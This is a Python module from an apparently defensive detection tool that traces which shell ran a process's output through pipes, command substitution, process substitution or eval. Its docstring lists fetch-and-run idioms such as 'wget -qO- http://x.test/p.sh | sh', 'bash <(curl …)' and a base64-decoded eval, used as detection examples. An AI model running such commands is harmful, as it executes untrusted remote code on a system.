"""Which shell ran a process's output.

Exactly, when the trace shows each exec's fds 0/1 ("pipe:[4711]" in the writer's stdout and
the reader's stdin): the shell reading the producer's pipe as its program, through filter
stages (gunzip, tr …). A producer writing to a file, a socket or the container's log fed no
shell. A pipe nobody reads as stdin is a `$( … )` or `<( … )`, read by a shell on another fd:
that, and traces recorded before fds were shown, are inferred from process relations:

wget -qO- http://x.test/p.sh | sh       parent forks wget, then sh: siblings, sh reads stdin
(curl … || wget …) | sh                 the downloader sits in a subshell sibling of sh
sh -c "$(curl …)"                       curl in a `$( … )` subshell, then a `sh -c` sibling
bash <(curl …)                          bash's script is /dev/fd/63, curl its child
eval "$(echo … | base64 -d)"            decoder in a `$( … )` subshell of a shell that evals
"""

from __future__ import annotations

import re
from dataclasses import dataclass

from detonate.detect.correlations.run_index import (
    Proc,
    RunIndex,
    is_interpreter_name,
    is_shell_name,
)
from detonate.model.timeline import ProgramImage

PIPELINE_SECONDS = 2.0  # stages of one pipeline are forked back to back
SUBSHELL_LEVELS = 3
FILTER_STAGES = 4  # programs between the producer and the shell: curl | gunzip | tr | sh
# Shell options that take a value: `bash -o pipefail script`.
OPTIONS_WITH_VALUE = frozenset({"-o", "+o", "-O", "+O", "--rcfile", "--init-file"})
FD_SCRIPT = re.compile(r"^/(?:dev/fd/\d+|proc/self/fd/\d+|dev/stdin)$")
# `eval "$(`, `eval $(`, `eval "`$(...)`"`: a shell running text it computed.
EVAL = re.compile(r"\beval\s+[\"']?\$\(|\beval\s+[\"']?`")


@dataclass(frozen=True)
class Consumer:
    shell: int  # pid of the shell that ran the text (the producer's own ancestor for `eval`)
    how: str  # "pipe", "command-substitution", "process-substitution", "eval"
    via: tuple[int, ...] = ()  # filter stages between producer and shell (gunzip, tr …)


def script_argument(argv: tuple[str, ...]) -> str | None:
    """The script a shell runs: "" for stdin, the `-c` text, or a path; None if not a shell."""
    args = list(argv[1:])
    while args:
        arg = args.pop(0)
        if _is_c_flag(arg):
            return args[0] if args else ""
        if arg in ("-s", "-", "--"):
            return ""
        if arg == "-m":  # python -m module
            return args[0] if args else "-m"
        if arg in OPTIONS_WITH_VALUE:
            args = args[1:]
            continue
        if arg.startswith(("-", "+")):
            continue
        return "" if FD_SCRIPT.match(arg) else arg
    return ""


Program = Proc | ProgramImage  # a process judged by its last program, or one program image


def stage_programs(proc: Proc, stdin: str = "") -> list[Program]:
    """The programs `proc` ran as a pipeline stage: each exec'd image (with `stdin` on fd 0,
    when given), not only what it ended as (`curl … | sh` whose script ends in `exec ./x` was
    a shell reading the pipe; `curl … | nice sh` is a shell too); the process itself when it
    never exec'd."""
    images: list[Program] = [
        image for image in proc.images if image.execed and (not stdin or image.stdin == stdin)
    ]
    return images or [proc]


def runs_shell_code(proc: Program) -> bool:
    return runs_shell_code_name(proc.name)


def runs_shell_code_name(name: str) -> bool:
    """A shell or a script interpreter, by the name the program runs as."""
    return is_shell_name(name) or is_interpreter_name(name)


def reads_stdin(proc: Program) -> bool:
    """A shell or interpreter whose program text comes from its standard input (or a pipe fd)."""
    if not runs_shell_code(proc) or not proc.execed:
        return False
    if runs_command_text(proc):
        return False
    return script_argument(proc.argv) == ""


def runs_command_text(proc: Program) -> bool:
    """`sh -c TEXT`, `python -c TEXT`, `perl -e TEXT`: a program given as an argument."""
    if not proc.execed:
        return False
    if is_shell_name(proc.name):
        return any(_is_c_flag(arg) for arg in proc.argv[1:])
    if is_interpreter_name(proc.name):
        return any(arg in ("-c", "-e", "-E", "-r") for arg in proc.argv[1:])
    return False


def _is_c_flag(arg: str) -> bool:
    # "-c", "-ec", "-xc": short options bundled with c
    return arg.startswith("-") and not arg.startswith("--") and "c" in arg[1:] and len(arg) <= 5


def consumers(index: RunIndex, producer: int) -> list[Consumer]:
    """Shells that ran what `producer` wrote to its standard output."""
    proc = index.procs.get(producer)
    if proc is None or not proc.stdout:
        return _inferred(index, producer, siblings=True)  # a trace without fds
    if not proc.stdout.startswith("pipe:"):
        return []  # a file, a socket, /dev/null, the container's log: no shell read it
    readers = _pipe_readers(index, proc.stdout, producer)
    if readers or index.pipe_readers.get(proc.stdout):
        return readers  # read as stdin: by a shell (through filters), or by other programs
    return _inferred(index, producer, siblings=False)


def _pipe_readers(index: RunIndex, pipe: str, producer: int) -> list[Consumer]:
    """Shells whose program text came from `pipe`, directly or through filter stages."""
    found: list[Consumer] = []
    todo: list[tuple[str, tuple[int, ...]]] = [(pipe, ())]
    seen = {pipe}
    while todo:
        current, via = todo.pop(0)
        for pid in index.pipe_readers.get(current, ()):
            programs = stage_programs(index.procs[pid], current)
            reader = programs[-1]
            if pid == producer or pid in via:
                continue
            if any(reads_stdin(program) for program in programs):
                found.append(Consumer(pid, "pipe", via))
            elif (
                not any(runs_shell_code(program) for program in programs)
                and reader.stdout.startswith("pipe:")
                and reader.stdout not in seen
                and len(via) < FILTER_STAGES
            ):
                seen.add(reader.stdout)
                todo.append((reader.stdout, (*via, pid)))
    return found


def _inferred(index: RunIndex, producer: int, siblings: bool) -> list[Consumer]:
    """Consumers from process relations: pipeline siblings forked after the producer (only
    when the trace has no fds), `<( … )`, `$( … )`."""
    found: list[Consumer] = []
    level = producer
    for _ in range(SUBSHELL_LEVELS):
        proc = index.procs.get(level)
        if proc is None or not proc.ppid:
            break
        if siblings:
            found.extend(_pipe_siblings(index, proc))
        parent = index.procs.get(proc.ppid)
        fd_script = parent is not None and any(FD_SCRIPT.match(a) for a in parent.argv[1:])
        if parent is not None and fd_script and reads_stdin(parent):
            found.append(Consumer(parent.pid, "process-substitution"))
        if not index.is_subshell(proc.ppid):
            break  # the parent runs a program of its own: the pipeline ends there
        level = proc.ppid
    # With fds known, the producer's pipe went to no stdin: it is itself the `$( … )` child
    # when the shell execs it directly (ash, dash: `sh -c "$(wget -qO- URL)"`).
    found.extend(_substitution_of(index, producer, itself=not siblings))
    unique: dict[int, Consumer] = {}
    for consumer in found:
        unique.setdefault(consumer.shell, consumer)
    return list(unique.values())


def substitution_shell(index: RunIndex, producer: int) -> Proc | None:
    """The shell whose `$( … )` ran `producer` (directly, or as a stage of a pipeline in it)."""
    proc = index.procs.get(producer)
    if proc is None:
        return None
    grandparent = index.procs[proc.ppid].ppid if proc.ppid in index.procs else 0
    for sub_pid in (proc.ppid, grandparent):
        sub = index.procs.get(sub_pid)
        if sub is not None and index.is_subshell(sub_pid) and sub.ppid in index.procs:
            return index.procs[sub.ppid]
    return None


def _pipe_siblings(index: RunIndex, stage: Proc) -> list[Consumer]:
    """Siblings forked after `stage` by the same parent while it still ran, up to the first
    shell: the parent forks every stage of a pipeline before it waits for any of them."""
    if stage.fork_seq is None or stage.forked_at is None:
        return []
    siblings = sorted(
        (index.procs[pid] for pid in index.children.get(stage.ppid, ()) if pid in index.procs),
        key=lambda p: p.fork_seq if p.fork_seq is not None else -1,
    )
    via: list[int] = []
    for sibling in siblings:
        if sibling.fork_seq is None or sibling.fork_seq <= stage.fork_seq:
            continue
        assert sibling.forked_at is not None
        if stage.exit_seq is not None and sibling.fork_seq > stage.exit_seq:
            break
        if sibling.forked_at - stage.forked_at > PIPELINE_SECONDS:
            break
        programs = stage_programs(sibling)
        if any(reads_stdin(program) for program in programs):
            return [Consumer(sibling.pid, "pipe", tuple(via))]
        if any(runs_shell_code(program) and program.execed for program in programs):
            break  # a shell with its own script: the pipeline (if any) ended before it
        via.append(sibling.pid)
    return []


def _substitution_of(index: RunIndex, producer: int, itself: bool = False) -> list[Consumer]:
    """`sh -c "$(producer)"`, `eval "$(producer)"`: producer runs in a `$( … )` subshell, or
    is that subshell (`itself`: its output went to a pipe no program read as stdin)."""
    proc = index.procs.get(producer)
    if proc is None:
        return []
    # The subshell is the producer's parent (a plain `$(cmd)`) or grandparent (`$(a | b)`).
    candidates = [proc.ppid, index.procs[proc.ppid].ppid if proc.ppid in index.procs else 0]
    if itself:
        candidates.insert(0, producer)
    for sub_pid in candidates:
        sub = index.procs.get(sub_pid)
        if sub is None or not (index.is_subshell(sub_pid) or (itself and sub_pid == producer)):
            continue
        shell = index.procs.get(sub.ppid)
        if shell is None:
            continue
        found = _after_substitution(index, sub, shell)
        if found:
            return found
    return []


def _after_substitution(index: RunIndex, sub: Proc, shell: Proc) -> list[Consumer]:
    """What `shell` did with the output of its `$( … )` subshell `sub`."""
    if sub.fork_seq is None or sub.forked_at is None:
        return []
    done = sub.exited_at if sub.exited_at is not None else sub.forked_at
    for pid in index.children.get(shell.pid, ()):
        child = index.procs.get(pid)
        if child is None or child.fork_seq is None or child.forked_at is None:
            continue
        later = child.fork_seq > sub.fork_seq and child.forked_at - done <= PIPELINE_SECONDS
        if later and runs_command_text(child):
            return [Consumer(child.pid, "command-substitution")]
    for event in shell.execs:
        later = event.seq > sub.fork_seq and event.ts - done <= PIPELINE_SECONDS
        if later and runs_command_text(shell):
            return [Consumer(shell.pid, "command-substitution")]
    if EVAL.search(" ".join(shell.argv)):
        return [Consumer(shell.pid, "eval")]
    return []
